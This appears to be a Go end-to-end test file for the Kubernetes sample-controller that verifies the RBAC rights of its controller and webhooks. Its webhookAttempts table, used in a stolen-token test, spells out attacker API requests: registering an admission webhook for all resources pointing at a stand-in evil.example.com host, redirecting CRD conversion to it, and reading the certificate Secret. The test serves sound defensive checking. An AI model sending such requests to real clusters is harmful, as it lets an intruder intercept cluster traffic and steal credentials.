//go:build e2e

/*
Copyright The sample-controller Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package e2e

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/sets"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

// TestWebhookVariants: the controller has no rights for the webhooks, and with cert-manager these may
// write nothing.
func TestWebhookVariants(t *testing.T) {
	t.Parallel()
	base := variantRights(t, "base")[serviceAccount]
	for _, name := range []string{"with-webhook", "with-webhook-cert-manager"} {
		if rights := variantRights(t, name)[serviceAccount]; !rights.Equal(base) {
			t.Errorf("%s: the controller's rights are %q, want those of base", name, sets.List(rights))
		}
	}
	want := []string{
		rightOf("create", "authentication.k8s.io", "tokenreviews"), rightOf("create", "authorization.k8s.io", "subjectaccessreviews"),
		rightOf("list", "apps", "deployments"), rightOf("list", "samplecontroller.k8s.io", "foos"),
		rightOf("watch", "apps", "deployments"), rightOf("watch", "samplecontroller.k8s.io", "foos"),
	}
	if rights := sets.List(variantRights(t, "with-webhook-cert-manager")[webhookAccount]); !slices.Equal(rights, want) {
		t.Errorf("with cert-manager the webhooks' rights are %q, want %q", rights, want)
	}
}

// TestWebhooksForAllSets renders the overlay of docs/scale.md, which has the webhooks and no
// controller.
func TestWebhooksForAllSets(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile(filepath.Join(shared.root, "docs/scale.md"))
	must(t, err)
	_, after, _ := strings.Cut(string(text), "\n## Webhooks for all sets\n")
	_, after, _ = strings.Cut(after, "\n\n    ")
	commands, _, ok := strings.Cut(after, "\n    kubectl apply ")
	if !ok {
		t.Fatal("docs/scale.md has no overlay")
	}
	directory := t.TempDir()
	output := sh(t, fmt.Sprintf("cp -r %s/artifacts %s && cd %s\n%s\nkubectl kustomize webhooks",
		shared.root, directory, directory, strings.ReplaceAll(commands, "\n    ", "\n")))
	mustContain(t, output, "strategy: Webhook", "name: "+webhookAccount, "--webhooks-only", "image: registry.example.com/sample-controller:v1")
	if n := strings.Count(output, "\nkind: Deployment\n"); n != 1 {
		t.Errorf("the overlay has %d Deployments, want that of the webhooks", n)
	}
}

// updateCRD is the right that the webhooks use while the CRD names a conversion webhook.
const updateCRD = "update apiextensions.k8s.io/customresourcedefinitions"

// missWebhookRights runs the webhooks for updateCRD, or at the same time for each other of their rights, as
// TestEveryRightIsMissed runs the controllers.
func missWebhookRights(t *testing.T, ofCRD bool) {
	rules, missed := variantRules(t, "with-webhook")[webhookAccount], 0
	for i, rule := range rules {
		if (ruleRight(rule) == updateCRD) != ofCRD {
			continue
		}
		missed++
		t.Run("webhooks: "+ruleRight(rule), func(t *testing.T) {
			if !ofCRD {
				t.Parallel()
			}
			missWebhookRight(t, rules, i)
		})
	}
	if missed == 0 {
		t.Fatal("the service account of the webhooks has no such right")
	}
}

// missingRight is the test of updateCRD, while the CRD names the webhook.
func (w *webhookEnv) missingRight(t *testing.T) {
	createAccountsNamespace(t)
	missWebhookRights(t, true)
}

// missWebhookRight runs the webhooks without the right of rule i, and waits until the API server
// refuses it. The Secret and the configurations have other names than those of the manifests,
// which other processes write.
func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
	t.Helper()
	e, missing := newEnv(t), ruleRight(rules[i])
	own := unique("webhook")
	var granted []rbacv1.PolicyRule
	for _, rule := range slices.Concat(rules[:i], rules[i+1:]) {
		if slices.Equal(rule.ResourceNames, []string{webhookAccount}) {
			rule.ResourceNames = []string{own}
		}
		granted = append(granted, rule)
	}
	user, token := e.newAccount(granted)
	text, err := os.ReadFile(filepath.Join(shared.root, "artifacts/deploy/webhook/configurations.yaml"))
	e.must(err)
	// The API server calls them for no other test's Foos.
	configurations := strings.NewReplacer(
		"\n  name: "+webhookAccount+"\nwebhooks:", "\n  name: "+own+"\nwebhooks:",
		"operator: NotIn", "operator: In", "values: [kube-system, "+systemNamespace+"]", "values: ["+e.namespace+"]").Replace(string(text))
	file := filepath.Join(e.TempDir(), "configurations.yaml")
	e.must(os.WriteFile(file, []byte(configurations), 0o600))
	sh(t, "kubectl apply -f "+file)
	shOnCleanup(t, "kubectl delete -f "+file)
	if missing != "create secrets" {
		// The program renews a certificate that it cannot read.
		e.kubectl("create secret generic " + own + " --from-literal=tls.key=x")
	}
	// Streaming lists do not take the right to list.
	e.controller = start(t, t.TempDir(), fmt.Sprintf("env KUBE_FEATURE_WatchListClient=false sample-controller -kubeconfig=%s --webhooks-only --webhook-bind-address=127.0.0.1:0"+
		" --leader-elect-resource-namespace=%s --webhook-secret=%s --webhook-configuration=%[3]s --metrics-bind-address=127.0.0.1:0",
		kubeconfigOf(t, &clientcmdapi.AuthInfo{Token: token}), e.namespace, own))
	e.controller.awaitServing("metrics")
	e.eventually("the API server refuses to "+missing, func(context.Context) error { return e.refused(user, token, missing) })
}

// webhookAttempts take the rights to keep the certificate of the webhooks.
func webhookAttempts() []attempt {
	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
	return []attempt{
		{"register a server of their own as an admission webhook for all resources",
			"PUT /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
			`{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],` +
				`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
		{"change the CRD of Foos", "PUT " + crds + "foos.samplecontroller.k8s.io", conversion},
		{"change another CRD", "PUT " + crds + "memcacheds.cache.example.com", conversion}, // +drop:memcached
		{"read the Secret with the certificate of the webhooks", "GET " + secrets + "?fieldSelector=metadata.name=" + webhookAccount, ""},
		{"create a Secret in the controller's namespace", "POST " + secrets, "{metadata: {name: evil}}"},
		{"read all Foos and Deployments", "GET /apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments", ""},
		{"create, change or delete a Deployment", "DELETE " + deploymentsPath + "/x", ""},
	}
}

// stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
// program keeps the certificate and where cert-manager does. The table of docs/security.md is its
// result.
func (w *webhookEnv) stolenToken(t *testing.T) {
	e := newEnv(t)
	// The controller of walkthrough 5 syncs all namespaces.
	e.create("x")
	e.awaitReady("x")
	account := func(namespace, roles string) *attacker {
		e.Helper()
		attacker := newAttacker(e, systemNamespace, namespace, webhookAccount)
		e.eventually("the token has the rights of "+roles, func(ctx context.Context) error {
			_, err := attacker.kube.AppsV1().Deployments(e.namespace).List(ctx, metav1.ListOptions{})
			return err
		})
		return attacker
	}
	own := account(systemNamespace, "with-webhook")
	// With cert-manager the manifests bind one role.
	binding := e.namespace + "-lookups"
	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
	sh(t, fmt.Sprintf("kubectl create serviceaccount %[2]s --namespace=%[3]s && kubectl create clusterrolebinding %[1]s --clusterrole=%[2]s-lookups --serviceaccount=%[3]s:%[2]s", binding, webhookAccount, e.namespace))
	shOnCleanup(t, fmt.Sprintf("kubectl delete serviceaccount %s --namespace=%s", webhookAccount, e.namespace))
	certManager := account(e.namespace, "with-webhook-cert-manager")
	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
	}
}
